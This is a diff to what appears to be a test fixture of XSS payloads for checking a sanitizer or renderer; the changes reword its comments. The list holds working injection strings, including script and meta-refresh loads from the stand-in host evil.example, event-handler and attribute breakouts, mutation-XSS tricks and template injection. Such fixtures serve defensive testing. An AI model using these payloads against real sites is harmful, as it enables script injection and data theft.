@@ -1,9 +1,6 @@
-/**
- * Texts that were script if any of them were taken for more than text: each would set `__hit`, open a dialog, or ask
- * `evil.example` for something.
- */
+/** XSS payloads: each sets `__hit`, opens a dialog or requests `evil.example` if it is run. */
 export const payloads = [
-  // Elements that run something by themselves.
+  // Elements that run by themselves.
   '<script>__hit=1</script>',
   '<script src=//evil.example/x.js></script>',
   "<script type=module>import'//evil.example/x.js'</script>",
@@ -22,7 +19,7 @@ export const payloads = [
   '<div contenteditable autofocus onfocus=__hit=1>',
   '<div style=animation:x onanimationend=__hit=1>',
   '<a href=x autofocus onfocus=__hit=1>x</a>',
-  // Pages within the page, and ways out of it.
+  // Frames, navigation and forms.
   '<object data=javascript:__hit=1>',
   '<object data=//evil.example/x>',
   '<embed src=//evil.example/x>',
@@ -36,7 +33,7 @@ export const payloads = [
   '<base href=//evil.example/>',
   '<meta http-equiv=refresh content="0;url=//evil.example/">',
   '<meta http-equiv=refresh content="0;javascript:__hit=1">',
-  // What asks a foreign host for something.
+  // Requests to a foreign host.
   '<img src=//evil.example/p.png>',
   '<img srcset="//evil.example/p.png 1x">',
   '<video poster=//evil.example/p.png>',
@@ -50,7 +47,7 @@ export const payloads = [
   '<style>*{background:url(//evil.example/x)}</style>',
   '<div style="background:url(//evil.example/x)">x</div>',
   'red;background:url(//evil.example/x)',
-  // Foreign languages within HTML, and what is read anew as something else.
+  // SVG, MathML and mutation XSS.
   '<svg onload=__hit=1>',
   '<svg/onload=__hit=1>',
   '<svg><script>__hit=1</script></svg>',
@@ -72,7 +69,7 @@ export const payloads = [
   '<![CDATA[><img src=x onerror=__hit=1>]]>',
   '<!--><img src=x onerror=__hit=1>-->',
   '<p id="</title><svg/onload=__hit=1>">',
-  // What breaks out of where it stands.
+  // Breaking out of attributes, comments and elements.
   '"><svg onload=__hit=1>',
   "'><img src=x onerror=__hit=1>",
   '" autofocus onfocus=__hit=1 x="',
@@ -83,7 +80,7 @@ export const payloads = [
   '</style><img src=x onerror=__hit=1>',
   "'-(__hit=1)-'",
   '";__hit=1;//',
-  // Addresses, and the signs of Markdown and of our own texts.
+  // Addresses, Markdown and our own markup.
   'javascript:__hit=1',
   'JaVaScRiPt:__hit=1//',
   'java&Tab;script:__hit=1',
@@ -98,9 +95,9 @@ export const payloads = [
   '[[x|<img src=x onerror=__hit=1>]]',
   '[[<svg onload=__hit=1>|Rowan]]',
   ':::gm <img src=x onerror=__hit=1> :::',
-  // Templates, and letters that become others.
+  // Templates and Unicode.
   "{{constructor.constructor('__hit=1')()}}",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of somebody else's
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a template
   '${__hit=1}',
   '<%= __hit=1 %>',
   '#{__hit=1}',
